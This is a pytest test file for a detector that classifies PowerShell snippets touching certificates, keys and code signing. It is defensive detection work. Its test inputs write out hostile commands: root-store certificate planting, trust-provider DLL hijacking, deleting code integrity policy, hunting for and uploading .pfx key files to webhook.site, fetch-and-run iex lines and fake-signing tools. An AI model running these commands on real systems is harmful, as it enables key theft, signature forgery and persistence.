"""What PowerShell text does with certificates, keys and signatures."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from codesignrisk_core import cmdlets
from codesignrisk_core.model import Report, Script
from hypothesis import given, settings
from hypothesis import strategies as st

LOOKUP = Path(__file__).parents[3] / "lookups" / "codesignrisk_indicators.csv"
THUMBPRINT = "0123456789ABCDEF0123456789ABCDEF01234567"


def judge(text: str, cwd: str = "C:\\work") -> Report:
    return cmdlets.judge_script(Script(text, cwd=cwd))


def indicators(text: str) -> set[str]:
    return {found.indicator for found in judge(text).findings}


STORE_WRITES = [
    # the cmdlet, in the spellings that the provider and the parameter binder take
    ("Import-Certificate -FilePath x.cer -CertStoreLocation Cert:\\LocalMachine\\Root", "LocalMachine\\root"),
    ("Import-Certificate x.cer -cert cert:/localmachine/trustedpublisher/", "LocalMachine\\trustedpublisher"),
    ("Import-Certificate x.cer -Cert:'Cert:\\\\CurrentUser\\\\AuthRoot\\'", "CurrentUser\\authroot"),
    (
        "PKI\\Import-Certificate x.cer -CertStoreLocation Microsoft.PowerShell.Security\\Certificate::LocalMachine\\CA",
        "LocalMachine\\ca",
    ),
    ("Import-Certificate \u2013FilePath x.cer \u2015CertStoreLocation Cert:\\LocalMachine\\Root", "LocalMachine\\root"),
    ("Import-PfxCertificate x.pfx Cert:\\LocalMachine\\TrustedPeople", "LocalMachine\\trustedpeople"),
    ("Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\My\\..\\Root", "LocalMachine\\root"),
    # through variables, splatting, loops, the current location
    ("$s='Cert:\\LocalMachine\\Root'; Import-Certificate x.cer -CertStoreLocation $s", "LocalMachine\\root"),
    ("$n='ot'; Import-Certificate x.cer -CertStoreLocation \"Cert:\\LocalMachine\\Ro$n\"", "LocalMachine\\root"),
    (
        "$p=@{FilePath='x.cer'; CertStoreLocation='Cert:\\LocalMachine\\Root'}\nImport-Certificate @p",
        "LocalMachine\\root",
    ),
    ("'Root' | % { Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\$_ }", "LocalMachine\\root"),
    ("Set-Location Cert:\\LocalMachine\\Root; Import-Certificate C:\\x.cer", "LocalMachine\\root"),
    ("cd Cert:\\LocalMachine; Import-Certificate C:\\x.cer -CertStoreLocation .\\Root", "LocalMachine\\root"),
    ('iex "Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root"', "LocalMachine\\root"),
    ("gci *.cer | Import-Certificate -CertStoreLocation Cert:\\LocalMachine\\Root", "LocalMachine\\root"),
    # other ways in
    ("Move-Item $c.PSPath -Destination Cert:\\LocalMachine\\Root", "LocalMachine\\root"),
    ("gci Cert:\\CurrentUser\\My | Copy-Item -Destination Cert:\\CurrentUser\\Root", "CurrentUser\\root"),
    (
        "$s = New-Object System.Security.Cryptography.X509Certificates.X509Store 'Root','LocalMachine'\n"
        "$s.Open('ReadWrite'); $s.Add($c)",
        "LocalMachine\\root",
    ),
    (
        "$s = [X509Store]::new([StoreName]::TrustedPublisher, [StoreLocation]::LocalMachine); $s.AddRange($c)",
        "LocalMachine\\trustedpublisher",
    ),
    ("(New-Object X509Store([StoreName]::CertificateAuthority)).Add($c)", "CurrentUser\\ca"),
    ("$s = Get-Item Cert:\\LocalMachine\\Root; $s.Open('ReadWrite'); $s.Add($c)", "LocalMachine\\root"),
]


@pytest.mark.parametrize(("text", "store"), STORE_WRITES)
def test_writes_to_trusted_stores(text: str, store: str) -> None:
    report = judge(text)
    assert report.store == store
    assert report.flags >= {"CertImport", "TrustedStoreTarget"}
    assert f"add_to_store_{store.rpartition(chr(92))[2]}" in {found.indicator for found in report.findings}
    assert report.tool == "powershell"


def test_the_file_and_where_it_lies() -> None:
    report = judge('Import-Certificate "$env:TEMP\\a.cer" -CertStoreLocation Cert:\\LocalMachine\\Root')
    assert report.files == ["%temp%\\a.cer"]
    assert [found.indicator for found in report.findings] == ["add_to_store_root", "input_user_writable"]
    assert judge("Import-PfxCertificate a.pfx Cert:\\LocalMachine\\My").files == ["c:\\work\\a.pfx"]
    file = "[X509Certificate2]::new('C:\\Users\\Public\\a.cer')"
    assert judge(f"([X509Store]::new('Root')).Add({file})").files == ["c:\\users\\public\\a.cer"]


REGISTRY = [
    (
        "Set-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB Blob $b",
        "LocalMachine\\root",
    ),
    (
        "sp -Pat Registry::HKEY_CURRENT_USER\\Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\A Blob 1",
        "CurrentUser\\root",
    ),
    (
        "New-ItemProperty -Name Blob -Value $b -PropertyType Binary -Path "
        "HKLM:\\SOFTWARE\\Microsoft\\EnterpriseCertificates\\Root\\Certificates\\AB",
        "Enterprise\\root",
    ),
    (
        "cd HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates; sp TrustedPublisher\\Certificates\\AB Blob $b",
        "LocalMachine\\trustedpublisher",
    ),
    (
        "[Microsoft.Win32.Registry]::SetValue('HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates"
        "\\AB','Blob',$b)",
        "LocalMachine\\root",
    ),
    (
        "$k=[Microsoft.Win32.Registry]::LocalMachine.OpenSubKey('SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates',"
        "$true); $n=$k.CreateSubKey('AB'); $n.SetValue('Blob',$b)",
        "LocalMachine\\root",
    ),
    (
        "Invoke-WmiMethod -Namespace root\\default -Class StdRegProv -Name SetBinaryValue -ArgumentList 2147483650,"
        "'SOFTWARE\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB','Blob',$b",
        "LocalMachine\\root",
    ),
    (
        "Invoke-CimMethod -ClassName StdRegProv -MethodName SetBinaryValue -Arguments @{hDefKey=[uint32]2147483649; "
        "sSubKeyName='Software\\Microsoft\\SystemCertificates\\Root\\Certificates\\AB'; sValueName='Blob'; uValue=$b}",
        "CurrentUser\\root",
    ),
    (
        "([wmiclass]'root\\default:StdRegProv').SetBinaryValue(2147483650,'SOFTWARE\\Microsoft\\SystemCertificates\\CA\\"
        "Certificates\\AB','Blob',$b)",
        "LocalMachine\\ca",
    ),
]


@pytest.mark.parametrize(("text", "store"), REGISTRY)
def test_certificates_written_into_the_registry(text: str, store: str) -> None:
    report = judge(text)
    assert [found.indicator for found in report.findings] == ["registry_store_write"]
    assert (report.store, report.action) == (store, "add_to_store")


SIP = "HKLM:\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllVerifyIndirectData\\{C689AAB8}"

# text, indicators, action
ACTIONS = [
    (
        f"Set-ItemProperty '{SIP}' -Name Dll -Value C:\\Users\\Public\\a.dll",
        {"trust_provider_hijack", "input_user_writable"},
        "hijack_trust_provider",
    ),
    ("Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\My", {"add_to_store_my"}, "add_to_store"),
    ("Import-PfxCertificate x.pfx -CertStoreLocation Cert:\\LocalMachine\\My", {"import_pfx"}, "import_pfx"),
    ("Import-Certificate x.cer -CertStoreLocation $unknown", {"add_to_store_other"}, "add_to_store"),
    (f"Remove-Item Cert:\\LocalMachine\\Root\\{THUMBPRINT}", {"delete_from_trusted_store"}, "delete_from_store"),
    (
        "gci Cert:\\LocalMachine\\Root | ? Subject -like *x* | Remove-Item",
        {"delete_from_trusted_store"},
        "delete_from_store",
    ),
    (
        "foreach ($c in gci Cert:\\CurrentUser\\My) { Remove-Item $c.PSPath }",
        {"delete_from_store"},
        "delete_from_store",
    ),
    ("$s=[X509Store]::new('Root'); $s.Remove($c)", {"delete_from_trusted_store"}, "delete_from_store"),
    (
        "Copy-Item HKCU:\\X HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\ROOT\\Certificates\\AB",
        {"registry_store_write"},
        "add_to_store",
    ),
    (
        "rp HKLM:\\SOFTWARE\\Microsoft\\SystemCertificates\\Disallowed\\Certificates\\AB Blob",
        {"delete_from_trusted_store"},
        "delete_from_store",
    ),
    (
        "sp HKLM:\\SOFTWARE\\Microsoft\\Cryptography\\Wintrust\\Config EnableCertPaddingCheck 0",
        {"weaken_code_integrity"},
        "weaken_code_integrity",
    ),
    # making
    ("New-SelfSignedCertificate -DnsName localhost", {"make_certificate"}, "make_certificate"),
    (
        "New-SelfSignedCertificate -Type CodeSigningCert -Subject CN=x",
        {"make_codesigning_certificate"},
        "make_certificate",
    ),
    ("New-SelfSignedCertificate -Type Code -Subject CN=x", {"make_codesigning_certificate"}, "make_certificate"),
    (
        "New-SelfSignedCertificate -Type Custom -TextExtension @('2.5.29.37={text}1.3.6.1.5.5.7.3.3')",
        {"make_codesigning_certificate"},
        "make_certificate",
    ),
    (
        "New-SelfSignedCertificate -Type Custom -TextExtension '2.5.29.37={text}1.3.6.1.5.5.7.3.31'",
        {"make_certificate"},
        "make_certificate",
    ),
    (
        "New-SelfSignedCertificate -Type CodeSigningCert -Subject 'CN=Microsoft Corporation'",
        {"make_codesigning_certificate", "subject_impersonates"},
        "make_certificate",
    ),
    (
        "New-SelfSignedCertificate -DnsName a -Signer $ca",
        {"make_certificate", "issued_by_own_authority"},
        "make_certificate",
    ),
    ("New-SelfSignedCertificate -CloneCert $c", {"make_certificate", "cloned_certificate"}, "make_certificate"),
    (
        "New-SelfSignedCertificateEx -Subject CN=x -EKU 'Code Signing'",
        {"make_codesigning_certificate"},
        "make_certificate",
    ),
    (
        "$r=[CertificateRequest]::new('CN=x',$k,$h,$p); $r.CreateSelfSigned($a,$b)",
        {"make_certificate"},
        "make_certificate",
    ),
    (
        "$r=[CertificateRequest]::new('CN=x',$k,$h,$p); $o.Add([Oid]'1.3.6.1.5.5.7.3.3'); $r.CreateSelfSigned($a,$b)",
        {"make_codesigning_certificate"},
        "make_certificate",
    ),
    # exporting
    (
        "gci Cert:\\CurrentUser\\My | Export-PfxCertificate -FilePath D:\\keys\\a.pfx -Password $p",
        {"export_key"},
        "export_key",
    ),
    ("Export-PfxCertificate $c C:\\Users\\Public\\a.pfx", {"export_key", "output_user_writable"}, "export_key"),
    ("Export-Certificate -Cert $c -FilePath D:\\keys\\a.cer", {"export_certificate"}, "export_certificate"),
    (
        "[IO.File]::WriteAllBytes('C:\\Temp\\a.pfx', $c.Export('Pfx', $p))",
        {"export_key", "output_user_writable"},
        "export_key",
    ),
    ("$c.Export([Security.Cryptography.X509Certificates.X509ContentType]::Pkcs12)", {"export_key"}, "export_key"),
    ("$c.Export('Cert')", {"export_certificate"}, "export_certificate"),
    ("$rsa.ExportPkcs8PrivateKey()", {"export_key"}, "export_key"),
    # signing
    ("Set-AuthenticodeSignature a.ps1 $c -TimestampServer http://t", {"powershell_sign"}, "sign"),
    ("Set-AuthenticodeSignature a.ps1 $c", {"powershell_sign", "no_timestamp"}, "sign"),
    (
        "Set-AuthenticodeSignature -Cert (Get-PfxCertificate D:\\k\\a.pfx) -FilePath D:\\b\\a.exe -Time http://t",
        {"powershell_sign", "load_key_file"},
        "sign",
    ),
    # key files
    ("Get-ChildItem C:\\ -Recurse -Include *.pfx,*.p12", {"hunt_key_files", "several_key_kinds"}, "search_keys"),
    # keys may stand behind many other names
    ("gci C:\\ -r -include " + "*.txt," * 20 + "*.pfx", {"hunt_key_files"}, "search_keys"),
    (
        "gci $env:USERPROFILE\\ -r -include *pass*,*.doc,*.kdbx,*.key,KeePass.config",
        {"hunt_weak_key_files"},
        "search_keys",
    ),
    ("ls C:\\Users -r | ? { $_.Extension -eq '.pfx' }", {"hunt_key_files"}, "search_keys"),
    ("[IO.Directory]::GetFiles('C:\\','*.pfx','AllDirectories')", {"hunt_key_files"}, "search_keys"),
    ("gci .\\src -Recurse -Filter *.snk", {"search_key_files"}, "search_keys"),
    ("Copy-Item D:\\keys\\a.pfx \\\\host\\share", {"copy_key_file", "key_to_share"}, "copy_key"),
    ("Compress-Archive D:\\keys\\*.pfx a.zip", {"archive_key_files"}, "archive_key"),
    (
        "gci D:\\keys -Recurse -Include *.pfx,*.p12 | Compress-Archive -DestinationPath a.zip",
        {"hunt_key_files", "archive_key_files", "several_key_kinds"},
        "search_keys",
    ),
    (
        "gci D:\\keys\\x -Recurse | ? Extension -in '.pfx','.p12' | cp -Destination \\\\host\\share",
        {"search_key_files", "several_key_kinds", "copy_key_files", "key_to_share"},
        "search_keys",
    ),
    (
        "Get-Content D:\\keys\\a.pfx -Encoding Byte | Set-Content D:\\o\\a.log -Encoding Byte",
        {"copy_key_file", "key_disguised"},
        "copy_key",
    ),
    ("[IO.File]::WriteAllBytes('D:\\b.pfx', [IO.File]::ReadAllBytes('D:\\a.pfx'))", {"copy_key_file"}, "copy_key"),
    ("irm https://webhook.site/1 -Method Post -InFile a.pfx", {"upload_key_file", "key_to_outside"}, "upload_key"),
    (
        "Remove-Item C:\\Windows\\System32\\CodeIntegrity\\SiPolicy.p7b -Force",
        {"code_integrity_policy"},
        "change_code_integrity_policy",
    ),
    ("Invoke-WebRequest https://x -Method Post -InFile D:\\keys\\a.pfx", {"upload_key_file"}, "upload_key"),
    ("(New-Object Net.WebClient).UploadFile('https://x', 'D:\\keys\\a.pfx')", {"upload_key_file"}, "upload_key"),
    (
        "$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes('D:\\keys\\a.pfx')); irm https://x -Method Post -Body $b",
        {"copy_key_file", "upload_key_file"},
        "upload_key",
    ),
    ("Start-BitsTransfer -TransferType Upload -Source D:\\keys\\a.pfx https://x", {"upload_key_file"}, "upload_key"),
    ("[IO.File]::WriteAllBytes('D:\\a.pfx', [Convert]::FromBase64String($env:PFX))", {"decode_key_file"}, "decode_key"),
    ("iwr https://x/a.pfx -OutFile D:\\keys\\a.pfx", {"fetch_key"}, "fetch_key"),
    (
        "(New-Object Net.WebClient).DownloadFile('https://x/a.cer', 'D:\\a.cer')",
        {"fetch_certificate"},
        "fetch_certificate",
    ),
    # tools by name
    ("Invoke-LazySign -Target a.exe -Domain x.com", {"fake_signature_tool"}, "fake_signature"),
    ("ipmo .\\metatwin.ps1", {"fake_signature_tool"}, "fake_signature"),
    ("& C:\\x\\Invoke-DllClone.ps1 a b", {"fake_signature_tool"}, "fake_signature"),
    ("iex (iwr https://x/Invoke-LazySign.ps1)", {"fake_signature_tool"}, "fake_signature"),
]


@pytest.mark.parametrize(("text", "expected", "action"), ACTIONS)
def test_actions(text: str, expected: set[str], action: str) -> None:
    report = judge(text)
    assert {found.indicator for found in report.findings} == expected
    assert report.action == action


NOTHING = [
    # reading, asking, mentioning
    "Get-ChildItem Cert:\\LocalMachine\\Root | Where-Object NotAfter -lt (Get-Date)",
    "Get-AuthenticodeSignature C:\\Windows\\System32\\cmd.exe",
    "Get-Command Import-Certificate; Get-Help Import-PfxCertificate",
    "Write-Host 'Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root'",
    "Write-Host Invoke-LazySign",
    "# Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
    "Import-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root -WhatIf",
    "$list = New-Object Collections.ArrayList; $list.Add($cert)",
    "$s=[X509Store]::new('Root'); $s.Open('ReadOnly'); $s.Certificates.Count",
    "Remove-Item C:\\certs\\a.cer; Copy-Item a.txt b.txt; New-Item C:\\certs -ItemType Directory",
    "New-Item Cert.txt; Set-ItemProperty HKCU:\\Software\\X Blob 1",
    "iex (iwr https://x/y.ps1)",
    "Invoke-WebRequest https://x -CertificateThumbprint AB",
    # definitions
    "@{ RootModule = 'PKI'; CmdletsToExport = 'Import-Certificate', 'Export-PfxCertificate' }",
    "function Import-Certificate { param($FilePath) PKI\\Import-Certificate @PSBoundParameters }",
    "function Export-PfxCertificate { [CmdletBinding()] param() $__cmdletization_x = New-Object object }",
    "function Add-Root { param($File, $Store) Import-Certificate $File -CertStoreLocation $Store }",
    "ConvertTo-SecureString hunter2 -AsPlainText -Force",
    "",
]


@pytest.mark.parametrize("text", NOTHING)
def test_nothing_to_say(text: str) -> None:
    assert judge(text).findings == []


SECRETS = [
    "Import-PfxCertificate a.pfx Cert:\\CurrentUser\\My -Password (ConvertTo-SecureString hunter2 -AsPlainText -Force)",
    "$p = ConvertTo-SecureString -String 'hunter2' -Force -AsPlainText; Export-PfxCertificate $c a.pfx -Password $p",
    "$w='hunter2'; $p = $w | ConvertTo-SecureString -AsPlainText -Force; Export-PfxCertificate $c a.pfx -Password $p",
    "$c = New-Object Security.Cryptography.X509Certificates.X509Certificate2('a.pfx','hunter2')",
    "$c = [X509Certificate2]::new('a.pfx', 'hunter2', 'Exportable')",
    "$c = New-Object X509Certificate2; $c.Import('a.pfx', 'hunter2', 'DefaultKeySet')",
    "Get-PfxCertificate a.pfx -Password (ConvertTo-SecureString hunter2 -AsPlainText)",
    "[IO.File]::WriteAllBytes('a.pfx', $c.Export('Pfx','hunter2'))",
    "Invoke-LazySign -Target a.exe -Password hunter2",
]


@pytest.mark.parametrize("text", SECRETS)
def test_secrets_are_known_and_never_told(text: str) -> None:
    report = judge(text)
    assert "hunter2" in report.secrets
    assert "clear_password" in {found.indicator for found in report.findings}
    assert "hunter2" not in " ".join(found.sentence for found in report.findings)
    assert not any("hunter2" in path for path in (*report.files, *report.targets))


def test_a_password_from_elsewhere_is_no_secret() -> None:
    text = "Import-PfxCertificate a.pfx -Password (ConvertTo-SecureString $env:PW -AsPlainText)"
    assert judge(text).secrets == []


def test_the_signed_files_and_the_certificate() -> None:
    text = f"gci C:\\b\\*.ps1 | Set-AuthenticodeSignature -Certificate (gci Cert:\\CurrentUser\\My\\{THUMBPRINT})"
    report = judge(text)
    assert (report.targets, report.store) == (["c:\\b\\*.ps1"], "CurrentUser\\my")
    assert report.thumbprint == THUMBPRINT


def test_self_signed_is_a_published_flag() -> None:
    assert "SelfSigned" in judge("New-SelfSignedCertificate -DnsName x").flags
    assert "SelfSigned" not in judge("New-SelfSignedCertificate -DnsName x -Signer $ca").flags


def test_several_actions_and_the_one_that_names_the_report() -> None:
    report = judge(
        "$c = Import-Certificate a.cer -CertStoreLocation Cert:\\LocalMachine\\My\n"
        "Move-Item $c.PSPath Cert:\\LocalMachine\\Root"
    )
    assert (report.action, report.store) == ("add_to_store", "LocalMachine\\root")
    assert {found.indicator for found in report.findings} == {"add_to_store_root", "add_to_store_my"}


@pytest.mark.parametrize(
    "text",
    [
        "Im`port-Certificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
        "&('Import-Cert'+'ificate') x.cer -CertStoreLocation Cert:\\LocalMachine\\Root",
        "Import-Certificate x.cer -CertStoreLocation ('Cert:\\LocalMachine\\Ro'+'ot')",
        "iex ('{1}{0}' -f 'tificate x.cer -CertStoreLocation Cert:\\LocalMachine\\Root','Import-Cer')",
        "c`ertutil -addstore root x.cer",
    ],
)
def test_disguises_void_every_credit(text: str) -> None:
    report = judge(text)
    assert report.hidden
    assert "obfuscated_escapes" in {found.indicator for found in report.findings}


def test_every_indicator_has_its_row() -> None:
    with LOOKUP.open(encoding="utf-8", newline="") as lines:
        known = {row["indicator"] for row in csv.DictReader(lines)}
    used = set().union(*(expected for _, expected, _ in ACTIONS), *(indicators(text) for text, _ in STORE_WRITES))
    assert used | {"registry_store_write", "clear_password", "obfuscated_escapes"} <= known


_PIECES = st.sampled_from(
    """Import-Certificate Export-PfxCertificate New-SelfSignedCertificate Set-AuthenticodeSignature Move-Item sp iex
    Cert:\\LocalMachine\\Root -CertStoreLocation -Password -FilePath $c = ; | ( ) { } @{ } 'a.pfx' "b$c" , [X509Store]
    ::new .Add .Export New-Object gci -Recurse *.pfx ConvertTo-SecureString -AsPlainText @p % $_ + -f
    Start-Process""".split()
)


@given(st.lists(_PIECES, max_size=40).map(" ".join))
@settings(max_examples=300, deadline=None)
def test_never_raises(text: str) -> None:
    cmdlets.judge_script(Script(text))
    cmdlets.native_commands(Script(text))


def test_a_certificate_that_comes_as_text_comes_from_that_text() -> None:
    report = judge(
        "$s = [X509Store]::new('Root', 'LocalMachine'); $s.Open('MaxAllowed'); "
        "$s.Add([X509Certificate2]::new([Convert]::FromBase64String((Get-Content C:\\Users\\Public\\c.txt))))"
    )
    assert {found.indicator for found in report.findings} == {
        "add_to_store_root",
        "input_user_writable",
        "input_odd_extension",
    }
    assert report.files == ["c:\\users\\public\\c.txt"]
